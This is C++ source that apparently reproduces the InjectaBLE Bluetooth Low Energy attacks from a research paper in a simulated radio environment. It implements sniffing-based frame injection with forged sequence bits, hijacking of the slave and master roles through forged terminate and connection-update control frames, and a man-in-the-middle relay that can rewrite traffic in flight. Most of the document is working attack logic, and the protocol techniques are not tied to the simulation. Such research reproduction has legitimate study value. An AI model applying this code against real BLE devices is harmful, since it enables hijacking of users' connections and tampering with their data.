        const Result result{ok, attempts};
        if (!ok) {
            if (done) done(result);
            return;
        }
        // The real slave acked our LL_TERMINATE_IND and left. Take its seat:
        // continue its flow-control state, hopping state and cadence.
        const auto& report = *session_.last_attempt();
        const bool rsp_sn = *report.observation.slave_sn;
        const bool rsp_nesn = *report.observation.slave_nesn;

        link::ConnectionConfig cfg;
        cfg.role = link::Role::kSlave;
        cfg.params = session_.params();
        cfg.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
        cfg.initial_event_counter = static_cast<std::uint16_t>(session_.event_counter() + 1);
        // The departed slave's final response carried (SN', NESN'); at the
        // next event the master expects a slave whose SN advanced past SN'
        // and whose NESN still acknowledges the master's last frame.
        cfg.initial_sn = !rsp_sn;
        cfg.initial_nesn = rsp_nesn;
        cfg.selector = session_.clone_selector();

        // The slave anchored on *our* injected frame, but the master keeps
        // timing events off its own transmissions — one widening later.
        const TimePoint next_anchor = session_.last_anchor() +
                                      session_.estimated_widening() +
                                      session_.params().interval();
        AttackerRadio& radio = session_.radio();
        session_.stop();
        endpoint_ = std::make_unique<EmulatedEndpoint>(radio, std::move(cfg),
                                                       EmulatedEndpoint::Upper::kServer,
                                                       &fake_server_);
        endpoint_->resume(next_anchor);
        BLE_LOG_INFO("scenario B: slave role hijacked after ", attempts, " attempt(s)");
        if (done) done(result);
    };
    session_.inject(std::move(request));
}

// --- Scenario C ---

link::ConnectionUpdateInd forge_connection_update(const link::ConnectionParams& current,
                                                  std::uint16_t instant,
                                                  std::uint16_t win_offset,
                                                  std::uint16_t new_interval) {
    link::ConnectionUpdateInd update;
    update.win_size = 1;
    update.win_offset = win_offset;
    update.interval = new_interval != 0 ? new_interval : current.hop_interval;
    update.latency = 0;
    update.timeout = current.timeout;
    update.instant = instant;
    return update;
}

void ScenarioC::execute(std::function<void(const Result&)> done) {
    done_ = std::move(done);
    result_ = Result{};

    // Each attempt re-forges the update with a fresh instant: a stale instant
    // (already reached) would be silently ignored by the slave.
    std::function<void()> try_once = [this]() {
        if (result_.attempts >= config_.max_attempts) {
            if (done_) done_(result_);
            return;
        }
        instant_ = static_cast<std::uint16_t>(session_.event_counter() +
                                              config_.instant_delta);
        update_ = forge_connection_update(session_.params(), instant_, config_.win_offset,
                                          config_.new_interval);
        AttackSession::InjectionRequest request;
        request.llid = link::Llid::kControl;
        request.payload = update_.to_control().serialize();
        request.max_attempts = 1;
        request.done = [this](bool ok, int attempts) {
            result_.attempts += attempts;
            if (!ok) {
                // Defer the retry out of the completion callback.
                // injectable-lint: allow(D4) -- immediate one-shot retry hop
                (void)session_.radio().scheduler().schedule_after(0, [this] { retry_(); });
                return;
            }
            result_.instant = instant_;
            // Follow until the instant, then take the master's seat.
            session_.on_event_advanced = [this](std::uint16_t counter) {
                if (counter == instant_) become_master();
            };
        };
        session_.inject(std::move(request));
    };
    retry_ = try_once;
    try_once();
}

void ScenarioC::become_master() {
    // Called right after the session advanced to `instant_` (the update
    // event): the slave is now waiting in the attacker-chosen window.
    const auto bits = session_.slave_bits();
    const auto params = session_.params();

    link::ConnectionConfig cfg;
    cfg.role = link::Role::kMaster;
    cfg.params = params;
    cfg.params.win_size = update_.win_size;
    cfg.params.win_offset = update_.win_offset;
    cfg.params.hop_interval = update_.interval;
    cfg.params.latency = update_.latency;
    cfg.params.timeout = update_.timeout;
    cfg.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
    cfg.initial_event_counter = instant_;
    if (bits) {
        cfg.initial_sn = bits->second;   // SN the slave expects next
        cfg.initial_nesn = !bits->first; // acks the slave's last frame
    }
    cfg.selector = session_.clone_selector();

    const Duration delay = params.interval() + kTransmitWindowDelayUncoded +
                           static_cast<Duration>(update_.win_offset) * kUnit1250us;
    const TimePoint next_anchor =
        session_.last_anchor() + session_.radio().sleep_clock().to_global(delay);

    AttackerRadio& radio = session_.radio();
    session_.stop();
    endpoint_ = std::make_unique<EmulatedEndpoint>(radio, std::move(cfg),
                                                   EmulatedEndpoint::Upper::kClient);
    endpoint_->on_event = [this](const link::ConnectionEventReport& report) {
        if (!result_.success && report.pdus_rx > 0) {
            result_.success = true;
            BLE_LOG_INFO("scenario C: master role hijacked (slave answers the attacker)");
            if (done_) done_(result_);
        }
    };
    endpoint_->on_disconnected = [this](link::DisconnectReason) {
        if (!result_.success && done_) done_(result_);
    };
    endpoint_->resume(next_anchor);
}

// --- Scenario C, slave-role variant ---

void ScenarioCSlave::execute(std::function<void(const Result&)> done) {
    done_ = std::move(done);
    result_ = Result{};
    std::function<void()> try_once = [this]() {
        if (result_.attempts >= config_.max_attempts) {
            if (done_) done_(result_);
            return;
        }
        instant_ = static_cast<std::uint16_t>(session_.event_counter() +
                                              config_.instant_delta);
        update_ = forge_connection_update(session_.params(), instant_, config_.win_offset,
                                          config_.new_interval);
        AttackSession::InjectionRequest request;
        request.llid = link::Llid::kControl;
        request.payload = update_.to_control().serialize();
        request.max_attempts = 1;
        request.done = [this](bool ok, int attempts) {
            result_.attempts += attempts;
            if (!ok) {
                // injectable-lint: allow(D4) -- immediate one-shot retry hop
                (void)session_.radio().scheduler().schedule_after(0, [this] { retry_(); });
                return;
            }
            session_.on_event_advanced = [this](std::uint16_t counter) {
                if (counter == instant_) become_slave();
            };
        };
        session_.inject(std::move(request));
    };
    retry_ = try_once;
    try_once();
}

void ScenarioCSlave::become_slave() {
    // The real slave obeys the forged update and waits at the new window;
    // nobody will ever serve it. We keep the *old* cadence and answer the
    // legitimate master in the real slave's place.
    const auto master_bits = session_.master_bits();
    const auto params = session_.params();  // session never applied our update

    link::ConnectionConfig cfg;
    cfg.role = link::Role::kSlave;
    cfg.params = params;
    cfg.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
    cfg.initial_event_counter = instant_;
    if (master_bits) {
        cfg.initial_sn = !master_bits->second;
        cfg.initial_nesn = !master_bits->first;
    }
    cfg.selector = session_.clone_selector();

    const TimePoint next_anchor =
        session_.last_anchor() + session_.radio().sleep_clock().to_global(params.interval());
    AttackerRadio& radio = session_.radio();
    session_.stop();
    endpoint_ = std::make_unique<EmulatedEndpoint>(radio, std::move(cfg),
                                                   EmulatedEndpoint::Upper::kServer,
                                                   &fake_server_);
    endpoint_->on_event = [this](const link::ConnectionEventReport& report) {
        if (!result_.success && report.anchor_observed) {
            result_.success = true;
            BLE_LOG_INFO(
                "scenario C': slave seat taken via forged update (real slave starved)");
            if (done_) done_(result_);
        }
    };
    endpoint_->on_disconnected = [this](link::DisconnectReason) {
        if (!result_.success && done_) done_(result_);
    };
    endpoint_->resume(next_anchor);
}

// --- Scenario D ---

void ScenarioD::execute(std::function<void(const Result&)> done) {
    done_ = std::move(done);
    result_ = Result{};

    std::function<void()> try_once = [this]() {
        if (result_.attempts >= config_.max_attempts) {
            if (done_) done_(result_);
            return;
        }
        instant_ = static_cast<std::uint16_t>(session_.event_counter() +
                                              config_.instant_delta);
        update_ = forge_connection_update(session_.params(), instant_, config_.win_offset,
                                          config_.new_interval);
        AttackSession::InjectionRequest request;
        request.llid = link::Llid::kControl;
        request.payload = update_.to_control().serialize();
        request.max_attempts = 1;
        request.done = [this](bool ok, int attempts) {
            result_.attempts += attempts;
            if (!ok) {
                // injectable-lint: allow(D4) -- immediate one-shot retry hop
                (void)session_.radio().scheduler().schedule_after(0, [this] { retry_(); });
                return;
            }
            session_.on_event_advanced = [this](std::uint16_t counter) {
                if (counter == instant_) split_connection();
            };
        };
        session_.inject(std::move(request));
    };
    retry_ = try_once;
    try_once();
}

void ScenarioD::split_connection() {
    const auto slave_bits = session_.slave_bits();
    const auto master_bits = session_.master_bits();
    const auto params = session_.params();

    // Half 1: attacker as master towards the real slave (new window/params).
    link::ConnectionConfig to_slave;
    to_slave.role = link::Role::kMaster;
    to_slave.params = params;
    to_slave.params.win_size = update_.win_size;
    to_slave.params.win_offset = update_.win_offset;
    to_slave.params.hop_interval = update_.interval;
    to_slave.params.latency = update_.latency;
    to_slave.params.timeout = update_.timeout;
    to_slave.own_sca_ppm = session_.radio().sleep_clock().sca_ppm();
    to_slave.initial_event_counter = instant_;
    if (slave_bits) {
        to_slave.initial_sn = slave_bits->second;
        to_slave.initial_nesn = !slave_bits->first;
    }
    to_slave.selector = session_.clone_selector();

    // Half 2: attacker as slave towards the real master (old cadence).
    link::ConnectionConfig to_master;
    to_master.role = link::Role::kSlave;
    to_master.params = params;
    to_master.own_sca_ppm = slave_radio_.sleep_clock().sca_ppm();
    to_master.initial_event_counter = instant_;
    if (master_bits) {
        to_master.initial_sn = !master_bits->second;
        to_master.initial_nesn = !master_bits->first;
    }
    to_master.selector = session_.clone_selector();

    const Duration new_delay = params.interval() + kTransmitWindowDelayUncoded +
                               static_cast<Duration>(update_.win_offset) * kUnit1250us;
    const TimePoint slave_side_anchor =
        session_.last_anchor() + session_.radio().sleep_clock().to_global(new_delay);
    const TimePoint master_side_anchor =
        session_.last_anchor() + slave_radio_.sleep_clock().to_global(params.interval());

    AttackerRadio& radio = session_.radio();
    session_.stop();

    master_side_ = std::make_unique<EmulatedEndpoint>(radio, std::move(to_slave),
                                                      EmulatedEndpoint::Upper::kTap);
    slave_side_ = std::make_unique<EmulatedEndpoint>(slave_radio_, std::move(to_master),
                                                     EmulatedEndpoint::Upper::kTap);

    // The relay: every SDU crossing the attacker runs through `tamper`.
    master_side_->on_sdu = [this](std::uint16_t cid, const Bytes& sdu) {
        std::optional<Bytes> out = tamper ? tamper(sdu, /*from_master=*/false) : sdu;
        if (out) slave_side_->send_sdu(cid, *out);
    };
    slave_side_->on_sdu = [this](std::uint16_t cid, const Bytes& sdu) {
        std::optional<Bytes> out = tamper ? tamper(sdu, /*from_master=*/true) : sdu;
        if (out) master_side_->send_sdu(cid, *out);
    };

    auto anchored = std::make_shared<std::pair<bool, bool>>(false, false);
    auto check = [this, anchored] {
        if (!result_.success && anchored->first && anchored->second) {
            result_.success = true;
            BLE_LOG_INFO("scenario D: man-in-the-middle established");
            if (done_) done_(result_);
        }
    };
    master_side_->on_event = [anchored, check](const link::ConnectionEventReport& r) {
        if (r.pdus_rx > 0) anchored->first = true;
        check();
    };
    slave_side_->on_event = [anchored, check](const link::ConnectionEventReport& r) {
        if (r.anchor_observed) anchored->second = true;
        check();
    };

    master_side_->resume(slave_side_anchor);
    slave_side_->resume(master_side_anchor);
}

}  // namespace injectable
