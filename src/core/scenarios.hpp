// The four attack scenarios of paper §VI, built on AttackSession.
//
//  A — illegitimately using a device functionality: inject ATT requests and
//      (for reads) sniff the response the slave sends to the legitimate
//      master.
//  B — hijacking the Slave role: inject LL_TERMINATE_IND (the master ignores
//      it, the slave obeys and leaves), then impersonate the slave towards
//      the unsuspecting master.
//  C — hijacking the Master role: inject a forged LL_CONNECTION_UPDATE_IND;
//      at its instant the slave jumps to the attacker-chosen transmit window,
//      deaf to the legitimate master (which dies of supervision timeout),
//      and the attacker becomes its master.
//  D — Man-in-the-Middle: scenario C towards the slave, plus a second radio
//      impersonating the slave towards the legitimate master, with a
//      tampering relay in between (the paper's on-the-fly SMS/RGB rewrite).
#pragma once

#include <functional>
#include <memory>
#include <optional>

#include "att/client.hpp"
#include "att/server.hpp"
#include "core/session.hpp"
#include "host/l2cap.hpp"
#include "link/connection.hpp"

namespace injectable {

/// A Link-Layer endpoint the attacker runs after a hijack: a Connection on an
/// AttackerRadio plus L2CAP, acting as a GATT server (fake slave), a GATT
/// client (fake master), or a raw SDU tap (MitM relay half).
class EmulatedEndpoint {
public:
    enum class Upper : std::uint8_t { kServer, kClient, kTap };

    EmulatedEndpoint(AttackerRadio& radio, ble::link::ConnectionConfig config, Upper upper,
                     ble::att::AttServer* server = nullptr);
    ~EmulatedEndpoint();

    EmulatedEndpoint(const EmulatedEndpoint&) = delete;
    EmulatedEndpoint& operator=(const EmulatedEndpoint&) = delete;

    /// Arms the first event (see link::Connection::resume).
    void resume(ble::TimePoint next_anchor);

    [[nodiscard]] ble::link::Connection& connection() noexcept { return *connection_; }
    /// Only valid for Upper::kClient.
    [[nodiscard]] ble::att::AttClient& client() noexcept { return *client_; }

    void send_sdu(std::uint16_t cid, ble::BytesView sdu);
    /// Server mode: push a Handle Value Notification to the peer — the
    /// paper's future-work keystroke-injection vector once the attacker owns
    /// the slave role with a forged HID profile.
    void notify(std::uint16_t handle, ble::BytesView value);

    /// Raw SDU tap (fires for every reassembled SDU, all Upper modes).
    std::function<void(std::uint16_t cid, const ble::Bytes&)> on_sdu;
    std::function<void(ble::link::DisconnectReason)> on_disconnected;
    std::function<void(const ble::link::ConnectionEventReport&)> on_event;

private:
    AttackerRadio& radio_;
    Upper upper_;
    ble::att::AttServer* server_ = nullptr;
    std::unique_ptr<ble::att::AttClient> client_;
    std::unique_ptr<ble::link::Connection> connection_;
    std::unique_ptr<ble::host::L2capChannel> l2cap_;
};

/// Scenario A.
class ScenarioA {
public:
    explicit ScenarioA(AttackSession& session) : session_(session) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    /// Injects an ATT Write Request (or Command if `command`).
    void inject_write(std::uint16_t handle, ble::Bytes value,
                      std::function<void(const Result&)> done, bool command = false,
                      int max_attempts = 50);

    /// Injects an ATT Read Request, then keeps sniffing: the slave's Read
    /// Response goes to the *legitimate* master, and the attacker overhears
    /// it. `done` receives the value when captured.
    void inject_read(std::uint16_t handle,
                     std::function<void(const Result&, std::optional<ble::Bytes>)> done,
                     int max_attempts = 50);

private:
    AttackSession& session_;
    // Read-capture state.
    std::function<void(const SniffedPacket&)> saved_packet_handler_;
    ble::Bytes reassembly_;
};

/// Scenario B.
class ScenarioB {
public:
    /// `fake_server` is the ATT database the attacker will serve once it owns
    /// the slave role (e.g. Device Name = "Hacked", §VI-B).
    ScenarioB(AttackSession& session, ble::att::AttServer& fake_server)
        : session_(session), fake_server_(fake_server) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    void execute(std::function<void(const Result&)> done, int max_attempts = 50);

    /// Valid after a successful execute: the attacker-run slave connection.
    [[nodiscard]] EmulatedEndpoint* hijacked_slave() noexcept { return endpoint_.get(); }

private:
    AttackSession& session_;
    ble::att::AttServer& fake_server_;
    std::unique_ptr<EmulatedEndpoint> endpoint_;
};

/// Parameters shared by the update-based hijacks (scenarios C and D).
struct UpdateHijackConfig {
    /// Events between the injected update and its instant (must leave the
    /// slave time to receive the update).
    std::uint16_t instant_delta = 8;
    /// WinOffset of the forged update (×1.25 ms). Shifts the new anchor
    /// away from the legitimate master's cadence.
    std::uint16_t win_offset = 2;
    /// New hop interval; 0 keeps the current one.
    std::uint16_t new_interval = 0;
    int max_attempts = 50;
};

/// Scenario C.
class ScenarioC {
public:
    using Config = UpdateHijackConfig;

    ScenarioC(AttackSession& session, Config config = {})
        : session_(session), config_(config) {}

    struct Result {
        bool success = false;
        int attempts = 0;
        std::uint16_t instant = 0;
    };

    void execute(std::function<void(const Result&)> done);

    /// Valid once execute reported success: attacker-run master + GATT client.
    [[nodiscard]] EmulatedEndpoint* hijacked_master() noexcept { return endpoint_.get(); }

private:
    void become_master();

    AttackSession& session_;
    Config config_;
    std::uint16_t instant_ = 0;
    ble::link::ConnectionUpdateInd update_{};
    std::function<void(const Result&)> done_;
    std::function<void()> retry_;
    Result result_;
    std::unique_ptr<EmulatedEndpoint> endpoint_;
};

/// Scenario C, slave-role variant (paper §VI-C: "this approach is
/// particularly powerful because it could also be used to hijack the Slave
/// role ... since the attacker knows both the old and the new parameters"):
/// inject the forged update, then take the *slave's* seat on the old cadence
/// towards the master. The real slave waits at the attacker-chosen new
/// window, hears nothing, and dies of supervision timeout — while the master
/// talks to the impostor without interruption.
class ScenarioCSlave {
public:
    using Config = UpdateHijackConfig;

    /// `fake_server` is served to the master once the seat is taken.
    ScenarioCSlave(AttackSession& session, ble::att::AttServer& fake_server,
                   Config config = {})
        : session_(session), fake_server_(fake_server), config_(config) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    void execute(std::function<void(const Result&)> done);

    [[nodiscard]] EmulatedEndpoint* hijacked_slave() noexcept { return endpoint_.get(); }

private:
    void become_slave();

    AttackSession& session_;
    ble::att::AttServer& fake_server_;
    Config config_;
    std::uint16_t instant_ = 0;
    ble::link::ConnectionUpdateInd update_{};
    std::function<void(const Result&)> done_;
    std::function<void()> retry_;
    Result result_;
    std::unique_ptr<EmulatedEndpoint> endpoint_;
};

/// Scenario D.
class ScenarioD {
public:
    using Config = ScenarioC::Config;

    /// `slave_side_radio` is the second front-end used to impersonate the
    /// slave towards the legitimate master. (The paper's dongle time-shares
    /// one radio between the two time-shifted connections; two half-duplex
    /// front-ends are behaviourally equivalent and keep the model honest.)
    ScenarioD(AttackSession& session, AttackerRadio& slave_side_radio, Config config = {})
        : session_(session), slave_radio_(slave_side_radio), config_(config) {}

    struct Result {
        bool success = false;
        int attempts = 0;
    };

    /// Rewrites SDUs in flight; return std::nullopt to drop. `from_master` is
    /// the direction of travel.
    std::function<std::optional<ble::Bytes>(ble::Bytes sdu, bool from_master)> tamper;

    void execute(std::function<void(const Result&)> done);

    [[nodiscard]] EmulatedEndpoint* master_side() noexcept { return master_side_.get(); }
    [[nodiscard]] EmulatedEndpoint* slave_side() noexcept { return slave_side_.get(); }

private:
    void split_connection();

    AttackSession& session_;
    AttackerRadio& slave_radio_;
    Config config_;
    std::uint16_t instant_ = 0;
    ble::link::ConnectionUpdateInd update_{};
    std::function<void(const Result&)> done_;
    std::function<void()> retry_;
    Result result_;
    /// Towards the real slave (attacker is master).
    std::unique_ptr<EmulatedEndpoint> master_side_;
    /// Towards the real master (attacker is slave).
    std::unique_ptr<EmulatedEndpoint> slave_side_;
};

/// Shared by C and D: builds the forged LL_CONNECTION_UPDATE_IND.
[[nodiscard]] ble::link::ConnectionUpdateInd forge_connection_update(
    const ble::link::ConnectionParams& current, std::uint16_t instant,
    std::uint16_t win_offset, std::uint16_t new_interval);

}  // namespace injectable
