#include "core/session.hpp"

#include <algorithm>
#include <cmath>

#include "common/log.hpp"
#include "core/forge.hpp"
#include "phy/frame.hpp"

namespace injectable {

using ble::Duration;
using ble::TimePoint;
using namespace ble;  // NOLINT: time literals

namespace {
/// Longest data frame we expect on the link (payload 27 + MIC headroom).
constexpr Duration kMaxFrameAir = (1 + 4 + 2 + 27 + 4 + 3) * 8_us;
constexpr Duration kRxGuard = 40_us;
/// The observe window closes this long before the next predicted window so
/// the radio is free to retune.
constexpr Duration kEventTailGuard = 700_us;
}  // namespace

AttackSession::AttackSession(AttackerRadio& radio, SniffedConnection target, Params params)
    : radio_(radio), attack_params_(params), target_(std::move(target)) {
    params_ = target_.params;
    // The paper's "easily adapted to the second algorithm": CSA#2 is a pure
    // function of the (sniffed) access address, so the attacker follows it
    // just as deterministically as CSA#1.
    if (params_.use_csa2) {
        selector_ = std::make_unique<link::Csa2>(params_.access_address,
                                                 params_.channel_map);
    } else {
        selector_ = std::make_unique<link::Csa1>(params_.hop_increment, params_.channel_map,
                                                 target_.from_connect_req
                                                     ? 0
                                                     : target_.recovered_unmapped_channel);
    }
}

AttackSession::~AttackSession() { stop(); }

sim::EventId AttackSession::guarded_at(TimePoint t, std::function<void()> fn) {
    return radio_.scheduler().schedule_at(
        t, [alive = std::weak_ptr<char>(alive_), fn = std::move(fn)] {
            if (alive.lock()) fn();
        });
}

void AttackSession::start() {
    running_ = true;
    radio_.rx_handler = [this](const sim::RxFrame& frame) { handle_rx(frame); };
    radio_.tx_handler = [this] { handle_tx_complete(); };

    anchor_ = target_.time_reference;
    if (target_.from_connect_req) {
        const Duration offset = kTransmitWindowDelayUncoded +
                                static_cast<Duration>(params_.win_offset) * kUnit1250us;
        predicted_anchor_ = target_.time_reference + radio_.sleep_clock().to_global(offset);
    } else {
        predicted_anchor_ =
            target_.time_reference + radio_.sleep_clock().to_global(params_.interval());
        event_counter_ = 1;  // relative counter; absolute value unknowable here
    }

    // The capture may be stale (the attacker synchronises whenever it
    // chooses, not necessarily at connection setup): fast-forward the
    // prediction and hopping state over the events that already elapsed. The
    // victims' residual drift over the gap is absorbed by the first observe
    // window's margin, after which the session re-anchors precisely.
    while (predicted_anchor_ + params_.interval() <
           radio_.now() + estimated_widening() + attack_params_.listen_margin) {
        // One skipped event: keep the CSA#1 chain and the counter in lockstep.
        selector_->channel_for_event(event_counter_);
        ++event_counter_;
        predicted_anchor_ += params_.interval();
    }
    schedule_event();
}

void AttackSession::stop() {
    running_ = false;
    alive_ = std::make_shared<char>(0);  // invalidates all pending callbacks
    if (timer_ != sim::kInvalidEvent) {
        radio_.scheduler().cancel(timer_);
        timer_ = sim::kInvalidEvent;
    }
    radio_.rx_handler = nullptr;
    radio_.tx_handler = nullptr;
}

Duration AttackSession::estimated_widening() const noexcept {
    return link::window_widening(params_.master_sca_ppm(),
                                 attack_params_.assumed_slave_sca_ppm, params_.interval());
}

void AttackSession::inject(InjectionRequest request) {
    attempts_ = 0;
    request_ = std::move(request);
}

void AttackSession::apply_pending_procedures(Duration& delay, bool& update_applied) {
    const Duration old_interval = params_.interval();
    update_applied = false;
    if (pending_update_ && pending_update_->instant == event_counter_) {
        const auto update = *pending_update_;
        params_.win_size = update.win_size;
        params_.win_offset = update.win_offset;
        params_.hop_interval = update.interval;
        params_.latency = update.latency;
        params_.timeout = update.timeout;
        pending_update_.reset();
        delay = old_interval + kTransmitWindowDelayUncoded +
                static_cast<Duration>(update.win_offset) * kUnit1250us;
        update_applied = true;
    } else {
        delay = params_.interval();
    }
    if (pending_map_ && pending_map_->instant == event_counter_) {
        params_.channel_map = pending_map_->map;
        selector_->set_channel_map(pending_map_->map);
        pending_map_.reset();
    }
}

void AttackSession::schedule_event() {
    if (!running_ || lost_) return;
    channel_ = selector_->channel_for_event(event_counter_);
    frames_this_event_ = 0;
    anchored_this_event_ = false;

    const bool can_inject = request_.has_value() && slave_bits_fresh_ &&
                            attempts_ < request_->max_attempts;
    mode_ = can_inject ? Mode::kInject : Mode::kObserve;
    if (mode_ == Mode::kInject) {
        begin_inject_event();
    } else {
        begin_observe_event();
    }
}

// --- observation ---

void AttackSession::begin_observe_event() {
    const Duration w = estimated_widening() + attack_params_.listen_margin;
    const TimePoint listen_from = predicted_anchor_ - w;
    const TimePoint close_at =
        predicted_anchor_ + std::max<Duration>(params_.interval() - kEventTailGuard, 2_ms);

    guarded_at(listen_from, [this] {
        if (running_ && mode_ == Mode::kObserve && !radio_.transmitting()) {
            radio_.listen(channel_);
        }
    });
    timer_ = guarded_at(close_at, [this] { close_observe_event(); });
}

void AttackSession::handle_rx(const sim::RxFrame& frame) {
    if (!running_ || lost_) return;
    const auto raw = phy::split_frame(frame.bytes);
    if (!raw || raw->access_address != params_.access_address) return;
    const bool crc_ok = raw->crc_ok(params_.crc_init);
    const auto pdu = link::DataPdu::parse(raw->pdu);

    if (mode_ == Mode::kInject) {
        if (!awaiting_response_) return;
        awaiting_response_ = false;
        radio_.stop_listening();
        observation_.slave_rsp_start = frame.start;
        if (pdu && crc_ok) {
            observation_.slave_sn = pdu->sn;
            observation_.slave_nesn = pdu->nesn;
        }
        if (timer_ != sim::kInvalidEvent) {
            radio_.scheduler().cancel(timer_);
            timer_ = sim::kInvalidEvent;
        }
        // The response is also a sniffed slave frame — scenario A's read
        // capture relies on it (fast stacks answer an injected ATT request
        // within the same connection event).
        if (on_packet) {
            SniffedPacket packet;
            packet.sender = SniffedPacket::Sender::kSlave;
            packet.crc_ok = crc_ok;
            packet.start = frame.start;
            packet.end = frame.end;
            packet.channel = frame.channel;
            packet.event_counter = event_counter_;
            if (pdu) packet.pdu = *pdu;
            on_packet(packet);
        }
        finish_attempt();
        return;
    }

    // Observe mode. Classification: the master's frame opens the event at
    // the predicted anchor (within widening + margin); everything else in
    // the event alternates after it. Pure arrival-order classification has
    // an absorbing failure mode — mistaking the slave's response for the
    // anchor shifts the prediction by a frame + T_IFS and the error then
    // self-perpetuates — so the anchor frame must match the timing model.
    bool is_master_frame;
    if (!anchored_this_event_) {
        const Duration offset = frame.start - predicted_anchor_;
        const Duration tolerance =
            estimated_widening() + attack_params_.listen_margin + microseconds(20);
        is_master_frame = offset >= -tolerance && offset <= tolerance;
    } else {
        is_master_frame = (frames_this_event_ % 2) == 0;
    }
    ++frames_this_event_;

    SniffedPacket packet;
    packet.sender =
        is_master_frame ? SniffedPacket::Sender::kMaster : SniffedPacket::Sender::kSlave;
    packet.crc_ok = crc_ok;
    packet.start = frame.start;
    packet.end = frame.end;
    packet.channel = frame.channel;
    packet.event_counter = event_counter_;
    if (pdu) packet.pdu = *pdu;

    if (on_packet) on_packet(packet);

    if (is_master_frame) {
        if (!anchored_this_event_) {
            // Only the event's first master frame is the anchor (later MD
            // frames must not shift the prediction base).
            anchor_ = frame.start;
            anchored_this_event_ = true;
        }
        missed_events_ = 0;
        if (pdu && crc_ok) {
            master_bits_ = {pdu->sn, pdu->nesn};
            if (pdu->is_control()) {
                if (const auto control = link::ControlPdu::parse(pdu->payload)) {
                    switch (control->opcode) {
                        case link::ControlOpcode::kConnectionUpdateInd:
                            if (auto upd = link::ConnectionUpdateInd::parse(*control)) {
                                if (attack_params_.apply_sniffed_updates) {
                                    pending_update_ = *upd;
                                }
                                if (on_update_sniffed) on_update_sniffed(*upd);
                            }
                            break;
                        case link::ControlOpcode::kChannelMapInd:
                            if (auto ind = link::ChannelMapInd::parse(*control)) {
                                if (attack_params_.apply_sniffed_updates) {
                                    pending_map_ = *ind;
                                }
                            }
                            break;
                        case link::ControlOpcode::kTerminateInd:
                            if (attack_params_.stop_on_terminate) declare_lost();
                            break;
                        case link::ControlOpcode::kClockAccuracyReq:
                        case link::ControlOpcode::kClockAccuracyRsp:
                            // §V-C: the master's SCA "can be extracted from
                            // ... LL_CLOCK_ACCURACY_REQ or _RSP" — refine the
                            // widening estimate when it floats by.
                            if (auto ca = link::ClockAccuracy::parse(*control)) {
                                params_.master_sca = ca->sca & 0x07;
                            }
                            break;
                        default:
                            break;
                    }
                }
            }
        }
    } else if (pdu && crc_ok) {
        slave_bits_ = {pdu->sn, pdu->nesn};
        slave_bits_fresh_ = true;
    }
}

void AttackSession::close_observe_event() {
    if (!running_ || lost_) return;
    timer_ = sim::kInvalidEvent;
    radio_.stop_listening();

    if (!anchored_this_event_) {
        ++missed_events_;
        slave_bits_fresh_ = false;
        if (missed_events_ > attack_params_.max_missed_events) {
            declare_lost();
            return;
        }
    } else {
        predicted_anchor_ = anchor_;
        // Freshness: a slave frame must have been seen *this* event.
        slave_bits_fresh_ = slave_bits_fresh_ && frames_this_event_ >= 2;
    }

    ++event_counter_;
    Duration delay = 0;
    bool update_applied = false;
    apply_pending_procedures(delay, update_applied);
    predicted_anchor_ += radio_.sleep_clock().to_global(delay);
    if (on_event_advanced) on_event_advanced(event_counter_);
    if (!running_) return;
    schedule_event();
}

// --- injection ---

void AttackSession::begin_inject_event() {
    const Duration w = link::window_widening(params_.master_sca_ppm(),
                                             attack_params_.assumed_slave_sca_ppm,
                                             params_.interval());
    // TX-chain latency: the frame leaves a little after the ideal point,
    // with an occasional firmware hiccup that can forfeit the race.
    const double jitter = std::abs(radio_.rng().normal(
        0.0, static_cast<double>(attack_params_.tx_latency_sd)));
    Duration latency =
        attack_params_.tx_latency_mean + static_cast<Duration>(std::llround(jitter));
    if (radio_.rng().chance(attack_params_.hiccup_prob)) {
        latency += static_cast<Duration>(
            radio_.rng().uniform(0.0, static_cast<double>(attack_params_.hiccup_max)));
    }
    TimePoint tx_at = predicted_anchor_ - w + latency;

    // Turnaround pressure: at small intervals the dongle sometimes has not
    // finished processing the previous exchange when the window opens; the
    // frame then leaves late, racing from behind the legitimate master.
    const double p_late =
        std::clamp(static_cast<double>(attack_params_.turnaround_time) /
                       static_cast<double>(params_.interval()),
                   0.0, 0.5);
    if (radio_.rng().chance(p_late)) {
        tx_at = predicted_anchor_ +
                static_cast<Duration>(radio_.rng().uniform(0.0, 100e3));
    }
    const auto [sn_a, nesn_a] = forged_sequence_bits(slave_bits_->first, slave_bits_->second);
    link::DataPdu pdu;
    pdu.llid = request_->llid;
    pdu.payload = request_->payload;
    pdu.sn = sn_a;
    pdu.nesn = nesn_a;

    slave_bits_fresh_ = false;  // consumed by this attempt
    ++attempts_;

    observation_ = InjectionObservation{};
    observation_.sn_a = sn_a;
    observation_.nesn_a = nesn_a;

    timer_ = guarded_at(tx_at, [this, pdu] {
        if (!running_ || lost_) return;
        timer_ = sim::kInvalidEvent;
        auto frame = phy::make_air_frame(params_.access_address, pdu.serialize(),
                                         params_.crc_init);
        observation_.tx_start = radio_.now();
        observation_.tx_duration = frame.duration();
        radio_.transmit(channel_, std::move(frame));
    });
}

void AttackSession::handle_tx_complete() {
    if (!running_ || lost_ || mode_ != Mode::kInject) return;
    // Turn around and listen for the slave's response (Eq. 7 inputs).
    awaiting_response_ = true;
    radio_.listen(channel_);
    timer_ = guarded_at(radio_.now() + kTifs + kMaxFrameAir + kRxGuard, [this] {
        if (!awaiting_response_) return;
        if (radio_.receiving()) {
            timer_ = guarded_at(radio_.now() + kMaxFrameAir, [this] {
                if (!awaiting_response_) return;
                awaiting_response_ = false;
                radio_.stop_listening();
                finish_attempt();
            });
            return;
        }
        awaiting_response_ = false;
        radio_.stop_listening();
        finish_attempt();
    });
}

void AttackSession::finish_attempt() {
    const HeuristicVerdict verdict = evaluate_injection(observation_);

    AttemptReport report;
    report.attempt = attempts_;
    report.event_counter = event_counter_;
    report.channel = channel_;
    report.observation = observation_;
    report.verdict = verdict;
    last_attempt_ = report;
    if (on_attempt) on_attempt(report);

    // Model update: on success the slave re-anchored on *our* frame; on
    // failure the legitimate anchor is near the prediction (we could not see
    // it while transmitting). The next event is always an observation, which
    // re-anchors precisely.
    anchor_ = verdict.success() ? observation_.tx_start : predicted_anchor_;
